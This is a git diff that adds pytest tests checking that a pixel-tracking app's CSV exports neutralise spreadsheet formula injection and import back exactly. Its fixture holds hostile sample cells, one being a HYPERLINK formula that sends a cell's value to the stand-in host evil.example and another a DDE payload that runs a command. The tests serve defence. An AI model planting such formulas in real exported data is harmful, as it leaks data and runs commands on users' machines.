@@ -14,6 +14,7 @@ import time
 import tracemalloc
 from pathlib import Path
 from typing import Any
+from urllib.parse import urlencode
 
 import pytest
 from click.testing import CliRunner
@@ -27,7 +28,7 @@ from pixel_wsgi.bulk import (
     MAX_SHOWN_CELLS,
 )
 from pixel_wsgi.cli import _lines_with_progress, cli
-from pixel_wsgi.columns import COLUMNS
+from pixel_wsgi.columns import COLUMNS, formula_safe, formula_unsafe
 from pixel_wsgi.models import Transaction
 
 from .cli_helpers import Run, cli_runner
@@ -826,3 +827,102 @@ def test_a_deeply_nested_json_cell_is_a_failed_row_not_a_recursion_error(
     cell = "[" * 100_000 + "]" * 100_000
     summary = upload(app, auth, f"reference_id,{column}\nr1,{cell}\n").json
     assert failures(summary) == [(2, "invalid_field", False)]
+
+
+# -- formula injection (issue 9) ---------------------------------------------------------
+
+FORMULAS = {
+    "reference_id": '=HYPERLINK("http://evil.example/?leak="&A1,"Invoice")',
+    "reason_code": "+cmd|' /C calc'!A0",
+    "sku_list[]": "@SUM(1+1)",
+    "note": "-2+3",
+}
+
+
+@pytest.fixture
+def formula_ledger(app: TestApp, auth: dict[str, str], world: World) -> None:
+    """A visitor's pixel and a server report whose text a spreadsheet would run."""
+    app.get(f"/pixels/click/{world.percent_link_id}", status=302)
+    query = urlencode({**FORMULAS, "sale_amount": "10.00"})
+    assert app.get(pixel_url(world.advertiser_id, query)).status_int == 200
+    server = {
+        "reference_id": "'=already quoted",
+        "sale_amount": "5.00",
+        "advertiser_campaign_id": str(world.percent_campaign_id),
+        "affiliate_id": str(world.publisher_id),
+        "reason_code": "-refund",
+    }
+    assert app.post(CONVERSIONS, server, headers=auth).status_int == 201
+    assert len(list(world.storage.transactions())) == 2
+
+
+def test_exports_guard_cells_a_spreadsheet_would_run(
+    app: TestApp,
+    auth: dict[str, str],
+    world: World,
+    formula_ledger: None,
+    run: Run,
+    tmp_path: Path,
+) -> None:
+    exported = export(run, world.advertiser_id, tmp_path / "ledger.csv").read_bytes()
+    from_api = app.get("/pixels/api/transactions.csv", headers=auth).body
+    assert exported == from_api
+    pixel_row, server_row = csv.DictReader(io.StringIO(exported.decode("utf-8")))
+    assert pixel_row["reference_id"] == "'" + FORMULAS["reference_id"]
+    assert pixel_row["reason_code"] == "'" + FORMULAS["reason_code"]
+    assert pixel_row["sku_list"] == "'" + FORMULAS["sku_list[]"]
+    assert pixel_row["custom_data"] == '{"note":"-2+3"}'  # starts with "{": no formula
+    assert server_row["reference_id"] == "''=already quoted"
+    assert server_row["reason_code"] == "'-refund"
+    for row in (pixel_row, server_row):
+        for column, cell in row.items():
+            if column not in ("sale_amount", "payout"):
+                assert not cell.startswith(("=", "+", "-", "@")), (column, cell)
+
+
+def test_a_guarded_export_imports_back_exactly(
+    app: TestApp,
+    auth: dict[str, str],
+    world: World,
+    formula_ledger: None,
+    run: Run,
+    tmp_path: Path,
+) -> None:
+    path = export(run, world.advertiser_id, tmp_path / "ledger.csv")
+    # Into the same store: every row is recognised as unchanged.
+    again = upload(app, auth, path.read_bytes()).json
+    assert (again["unchanged"], again["failed"], again["created"]) == (2, 0, 0)
+    # Into a fresh store: the values come back as they were, not with the guard.
+    fresh = SQLiteStorage(tmp_path / "fresh.db")
+    fresh.migrate()
+    make_world(fresh)
+    try:
+        result = cli_runner(f"sqlite:///{tmp_path / 'fresh.db'}")(
+            "import", str(path), "--advertiser", str(world.advertiser_id), "--json"
+        )
+        assert result.exit_code == 0, result.output
+        expected = current(list(world.storage.conversions(advertiser_id=world.advertiser_id)))
+        assert current(list(fresh.conversions())) == expected
+        assert set(expected) == {FORMULAS["reference_id"], "'=already quoted"}
+    finally:
+        fresh.close()
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        pytest.param("=1+1", "'=1+1", id="equals"),
+        pytest.param("+1", "'+1", id="plus"),
+        pytest.param("-1", "'-1", id="minus"),
+        pytest.param("@SUM(A1)", "'@SUM(A1)", id="at"),
+        pytest.param("\tx", "'\tx", id="tab"),
+        pytest.param("\rx", "'\rx", id="carriage-return"),
+        pytest.param("'=x", "''=x", id="already-quoted"),
+        pytest.param("'x", "'x", id="quote-before-text"),
+        pytest.param("plain", "plain", id="plain"),
+        pytest.param("", "", id="empty"),
+    ],
+)
+def test_the_formula_guard_is_undone_exactly(text: str, cell: str) -> None:
+    assert formula_safe(text) == cell
+    assert formula_unsafe(cell) == text
